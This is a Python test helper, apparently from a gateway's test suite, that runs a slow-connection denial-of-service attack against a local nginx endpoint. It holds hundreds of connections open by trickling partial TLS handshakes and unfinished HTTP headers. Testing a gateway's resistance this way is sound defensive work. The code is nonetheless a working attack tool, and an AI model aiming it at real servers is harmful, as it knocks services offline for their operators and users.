"""Callers without a key who fill a gateway: slow in TLS, slow in a request's header."""

import socket
import ssl
import threading
import time
from contextlib import suppress

HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(64)
"""How a TLS handshake begins; the rest never comes."""
HEADER = b"POST /v1/fleet/pull-messages HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
PAUSE_S = 0.5


class Attack:
    """Holds as many connections as it can, up to `count`, from one address; opens lost ones anew.

    Of ten, nine send a byte of a TLS handshake now and then, one a byte of a request's header. (On
    those that are silent nginx hangs up by itself when it is full.)
    """

    def __init__(self, port, source, count=600):
        self._to, self._source = ("127.0.0.1", port), source
        self._over = threading.Event()
        self.opened = 0
        self._open = [None] * count
        parts = [range(start, count, 60) for start in range(60)]
        self._threads = [threading.Thread(target=self._hold, args=(part,)) for part in parts]

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._over.set()
        for thread in self._threads:
            thread.join()

    def _hold(self, places):
        while not self._over.is_set():
            for place in places:
                try:
                    if self._open[place] is None:
                        self._connect(place)
                        self.opened += 1
                    else:
                        self._open[place].send(b"x")
                    self._look(self._open[place])
                except OSError:
                    self._drop(place)
            self._over.wait(PAUSE_S)
        for place in places:
            self._drop(place)

    def _connect(self, place):
        """Open a place's connection; it is kept before anything is sent, so that it is closed."""
        made = socket.create_connection(self._to, 5, (self._source, 0))
        if place % 10 == 9:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            made = context.wrap_socket(made)
        self._open[place] = made
        made.send(HEADER if place % 10 == 9 else HELLO)

    def _look(self, one):
        """Raise OSError where the other side has hung up."""
        one.settimeout(0.001)
        with suppress(TimeoutError, ssl.SSLWantReadError):
            if not one.recv(1):
                raise ConnectionError("hung up")
        one.settimeout(5)

    def _drop(self, place):
        if (one := self._open[place]) is not None:
            self._open[place] = None
            one.close()


def hold_on(attack, seconds, at_times):
    """Let an attack go on for some seconds; call `at_times` about every five."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(5)
        at_times(attack)
